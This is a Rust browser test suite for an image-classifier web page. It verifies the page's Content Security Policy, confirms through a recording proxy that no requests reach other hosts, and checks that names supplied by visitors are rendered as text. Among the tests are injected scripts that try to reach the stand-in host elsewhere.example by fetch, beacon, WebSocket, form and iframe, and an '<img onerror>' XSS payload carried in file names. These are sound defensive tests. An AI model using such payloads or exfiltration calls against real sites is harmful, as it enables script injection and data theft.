//! The page's policy is sent to the browser, no other host is asked for anything, and what visitors bring
//! becomes text, never markup.

use crate::common;
use crate::output::export;
use crate::scenes::{SCENES, show};
use crate::steps::{Folder, pick};
use browser_tests::{BLANK, Options, Page, Site};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::fs;
use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;
use xtask::build::policy;

/// Keeps what the browser refuses to the page.
const WATCH: &str = "window.violations = [];
    addEventListener('securitypolicyviolation', event =>
        window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`), true);";

fn violations(page: &Page) -> Vec<String> {
    serde_json::from_value(page.run("return window.violations")).expect("violations")
}

/// Where a Chromium asks for updates, the time and the names of forms.
const THE_BROWSERS_OWN: [&str; 6] = [
    "//clients2.google.com/",
    "//update.googleapis.com/",
    " update.googleapis.com:443",
    " accounts.google.com:443",
    " content-autofill.googleapis.com:443",
    " optimizationguide-pa.googleapis.com:443",
];

/// A proxy that a browser takes for every host but this machine, and that answers nothing.
struct Elsewhere {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Elsewhere {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let port = listener.local_addr().expect("an address").port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&asked);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut line = String::new();
                let _ = BufReader::new(stream).read_line(&mut line);
                // A connection that is opened ahead of need, and dropped, asks for nothing.
                if !line.is_empty() {
                    kept.lock().expect("nobody panics with it").push(line.trim().to_owned());
                }
            }
        });
        Self { port, asked }
    }

    /// A browser behind it.
    fn options(&self) -> Options {
        Options::default().arg(format!("--proxy-server=127.0.0.1:{}", self.port)).before(WATCH)
    }

    /// What was asked of other hosts so far, but for what the browser itself asks of its maker.
    fn asked(&self) -> Vec<String> {
        let mut asked = self.asked.lock().expect("nobody panics with it").clone();
        asked.retain(|line| !THE_BROWSERS_OWN.iter().any(|host| line.contains(host)));
        asked
    }
}

/// The headers of an answer that the page gets for an address.
fn headers(page: &Page, address: &str) -> Value {
    page.run_with(
        "const { headers } = await fetch(arguments[0], { cache: 'no-store' });
         return Object.fromEntries(headers);",
        vec![json!(address)],
    )
}

/// The same words in the documents, from the server and from the service worker, which forbids nothing that
/// its host allows.
#[test]
fn documents_and_headers_say_the_same() {
    let says = "return document.querySelector('meta[http-equiv=Content-Security-Policy]').content";
    let served = Site::new();
    let plain = Site::plain_under("some/path");
    let (all, added) = (policy::headers().to_vec(), policy::additions().to_vec());
    for (site, folder, headers_of_it) in [(&served, "", all), (&plain, "some/path/", added)] {
        let page = Page::open(site, folder);
        page.wait("the page is isolated", "crossOriginIsolated", 30);
        page.ready();
        for file in ["", "separable/worker.js", "examples/classify.html"] {
            let sent = headers(&page, file);
            for (name, _) in policy::headers() {
                let value = headers_of_it.iter().find(|(of, _)| *of == name);
                let value = value.map(|(_, value)| value);
                assert_eq!(sent[name.to_ascii_lowercase()], json!(value), "{name} of {file}");
            }
        }
        for document in ["", "examples/classify.html"] {
            page.goto(&format!("{}/{folder}{document}", site.address()));
            assert_eq!(page.run(says), json!(policy::CONTENT), "{document}");
        }
    }
    assert!(!policy::CONTENT.contains("unsafe-inline"));
    assert!(!policy::CONTENT.contains("'unsafe-eval'"));
    assert!(policy::CONTENT.starts_with("default-src 'none'"));
}

/// Every view, sheet and language, on a host with headers of ours and on one without.
#[test]
fn no_view_asks_another_host_for_anything() {
    let watch = Elsewhere::new();
    let site = Site::new();
    let page = Page::open_with(&watch.options(), &site, "");
    let mut blocked = Vec::new();
    for language in ["en", "de"] {
        for scene in SCENES {
            let (name, ..) = scene;
            show(&page, &site, scene, &format!("lang={language}&"));
            let found = violations(&page).into_iter().map(|it| format!("{name}, {language}: {it}"));
            blocked.extend(found);
            if name == "stage" {
                let spoken = page.run("return document.querySelector('.story').lang");
                assert_eq!(spoken, json!(language), "the language of the text");
            }
        }
    }
    assert_eq!(blocked, Vec::<String>::new(), "what the policy forbids");
    assert_eq!(page.errors(), Vec::<String>::new(), "the console");
    assert_eq!(watch.asked(), Vec::<String>::new(), "requests to other hosts");
    // One who does ask is seen.
    page.goto("data:text/html,<img src=http://elsewhere.example/picture.png>");
    page.wait("it has failed", "document.images[0]?.complete", 10);
    assert!(watch.asked().iter().any(|line| line.contains("elsewhere.example")), "the watch works");
}

/// What the foot links to: files that the host has, and papers, which are asked for nothing by themselves.
#[test]
fn the_foot_links_to_the_engine_and_to_the_papers() {
    let watch = Elsewhere::new();
    let page = Page::open_with(&watch.options(), &Site::new(), "");
    page.ready();
    let found = page.run(
        "const links = [...document.querySelectorAll('footer a')].map(link => link.href);
         const [own, others] = [true, false].map(here => links.filter(link => link.startsWith(location.origin) === here));
         const answers = [];
         for (const link of own) {
             const reply = await fetch(link);
             answers.push([new URL(link).pathname, reply.ok]);
         }
         const safe = [...document.querySelectorAll('footer a[href^=http]')].every(link => link.rel === 'noreferrer');
         return [answers, others, safe];",
    );
    let own = ["/LICENSES.txt", "/separable.js", "/separable.d.ts", "/examples/classify.html"];
    assert_eq!(found[0], json!(own.map(|path| json!([path, true]))));
    let papers =
        ["1704.04861", "1801.04381", "1905.02244", "2404.10518", "1712.05877", "1512.04150"];
    assert_eq!(found[1], json!(papers.map(|id| format!("https://arxiv.org/abs/{id}"))));
    assert_eq!(found[2], json!(true), "papers are not told from where one comes");
    page.rest(1000);
    assert_eq!(watch.asked(), Vec::<String>::new(), "requests to other hosts");
}

/// A page that tries: each way out, and each way in.
#[test]
fn what_is_inline_and_what_is_elsewhere_is_blocked() {
    let watch = Elsewhere::new();
    for (site, folder) in [(Site::new(), ""), (Site::plain_under("some/path"), "some/path/")] {
        let page = Page::open_with(&watch.options(), &site, folder);
        page.wait("the page is isolated", "crossOriginIsolated", 30);
        page.ready();
        page.run(
            "window.ran = [];
             const script = document.createElement('script');
             script.textContent = 'window.ran.push(\"script\")';
             const picture = document.createElement('div');
             picture.innerHTML = '<img src=nowhere.png onerror=\"window.ran.push(`handler`)\">';
             const form = document.createElement('form');
             form.action = 'http://elsewhere.example/form';
             const link = document.createElement('a');
             link.href = 'javascript:window.ran.push(\"link\")';
             const frame = document.createElement('iframe');
             frame.src = 'http://elsewhere.example/frame';
             const base = document.createElement('base');
             base.href = 'http://elsewhere.example/';
             const beyond = new Image();
             beyond.src = 'http://elsewhere.example/picture.png';
             document.body.append(script, picture, form, link, frame, base);
             form.submit();
             link.click();
             await fetch('http://elsewhere.example/data').catch(() => {});
             await import('http://elsewhere.example/module.js').catch(() => {});
             navigator.sendBeacon('http://elsewhere.example/beacon', 'all');
             setTimeout('window.ran.push(\"text\")');
             try { new WebSocket('ws://elsewhere.example/'); } catch {}",
        );
        for directive in [
            "script-src-elem inline",
            "script-src-attr inline",
            "connect-src http://elsewhere.example/data",
            "connect-src http://elsewhere.example/beacon",
            "connect-src ws://elsewhere.example/",
            "script-src-elem http://elsewhere.example/module.js",
            "img-src http://elsewhere.example/picture.png",
            "form-action http://elsewhere.example/form",
            "frame-src http://elsewhere.example",
            "base-uri http://elsewhere.example/",
            "script-src eval",
        ] {
            let said = format!("window.violations.some(it => it.startsWith('{directive}'))");
            page.wait(&format!("{directive} is blocked"), &said, 10);
        }
        assert_eq!(page.run("return window.ran"), json!([]), "what ran");
    }
    assert_eq!(watch.asked(), Vec::<String>::new(), "requests to other hosts");
}

/// A worker has the policy that comes with its script.
#[test]
fn a_worker_reaches_no_other_host() {
    let watch = Elsewhere::new();
    let script =
        "addEventListener('securitypolicyviolation', event => postMessage(event.blockedURI));
        fetch('http://elsewhere.example/data').catch(() => {});";
    let files = HashMap::from([("probe.js".to_owned(), script.into())]);
    let site = Site::with_files(files);
    let page = Page::open_with(&watch.options(), &site, BLANK);
    let blocked = page.run(
        "const worker = new Worker('probe.js', { type: 'module' });
         return new Promise((resolve, reject) => {
             worker.onmessage = ({ data }) => resolve(data);
             setTimeout(reject, 20_000, new Error('nothing was blocked'));
         });",
    );
    assert_eq!(blocked, json!("http://elsewhere.example/data"));
    assert_eq!(watch.asked(), Vec::<String>::new(), "requests to other hosts");
}

/// What a visitor could bring to be taken for markup.
const MARKUP: &str = "<img src=x onerror=window.ran=1>";

#[test]
fn labels_and_file_names_are_shown_as_written() {
    let folder = Folder::new("markup");
    let model = folder.0.join(format!("{MARKUP}.tflite"));
    let labels = folder.0.join(format!("{MARKUP}.txt"));
    fs::write(&model, common::built_in()).expect("a model");
    let lines = (0..200).map(|class| format!("{MARKUP}{class}&amp;<b>b</b>\n"));
    fs::write(&labels, lines.collect::<String>()).expect("labels");
    let picture = folder.0.join(format!("{MARKUP}.png"));
    image::RgbImage::from_fn(64, 64, |x, y| image::Rgb([x as u8 * 4, y as u8 * 4, 99]))
        .save(&picture)
        .expect("a picture");

    let site = Site::new();
    let page = Page::open_with(
        &Options::default().before(format!("{WATCH}{}", export::WATCH)),
        &site,
        "#at=1",
    );
    page.ready();
    pick(&page, "model-file", &[&model, &labels]);
    page.wait("it runs", "document.documentElement.dataset.model.startsWith('dropped')", 30);
    pick(&page, "file", &[&picture]);
    page.wait(
        "the picture is on show",
        &format!("document.querySelector('#status').innerText.includes('{MARKUP}')"),
        20,
    );
    page.wait(
        "the answer is one of the labels",
        &format!("document.querySelector('#predictions').innerText.includes('{MARKUP}')"),
        20,
    );
    let shown = |selector: &str| {
        let text = page.run_with(
            "const node = document.querySelector(arguments[0]);
             return [node.innerText, ...[node, ...node.querySelectorAll('*')].flatMap(node =>
                 [...node.attributes].map(({ value }) => value))].join('\\n');",
            vec![json!(selector)],
        );
        text.as_str().unwrap_or_default().to_owned()
    };
    assert!(shown("#predictions").contains("&amp;<b>b</b>"), "{}", shown("#predictions"));
    assert!(shown("[data-action=model]").contains(MARKUP), "the list of models");
    for (view, action) in [
        ("stage", ""),
        ("twin", ""),
        ("cost", ""),
        ("why", ""),
        ("lab", ""),
        ("change", ""),
        ("networks", ""),
        ("stage", "keep-frame"),
        ("stage", "card"),
        ("stage", "engine"),
        ("stage", "link"),
        ("stage", "help"),
    ] {
        page.run(&format!("document.querySelector('#tab-{view}').click()"));
        page.wait("the view is there", "document.querySelector('.pane:not([hidden])')", 10);
        if !action.is_empty() {
            page.run(&format!("document.querySelector('[data-action={action}]').click()"));
        }
        page.rest(1000);
        if action == "card" {
            page.wait(
                "the card names the file",
                &format!("document.querySelector('#card').innerText.includes('{MARKUP}')"),
                10,
            );
        }
        if view == "why" {
            assert!(shown(".pane:not([hidden])").contains(MARKUP), "the classes of the view");
        }
        // Of markup there would be an element, and it would run.
        let made = page.run("return [document.querySelectorAll('img').length, window.ran ?? 0, document.querySelectorAll('b').length, document.title]");
        assert_eq!(made[0], json!(0), "{view} {action}: pictures made of text");
        assert_eq!(made[1], json!(0), "{view} {action}: it ran");
        page.press('\u{e00c}'); // Escape
    }
    // A picture that is saved carries the names as text.
    let (_, said, name) = export::save(&page, "figure.square");
    assert!(said.contains(&format!("{MARKUP}.tflite")), "{said}");
    assert!(said.contains(&format!("{MARKUP}.png")), "{said}");
    assert!(name.ends_with(".png") && !name.contains(['<', '>', '/']), "{name}");
    assert_eq!(page.errors(), Vec::<String>::new(), "the console");
    assert_eq!(violations(&page), Vec::<String>::new());
}
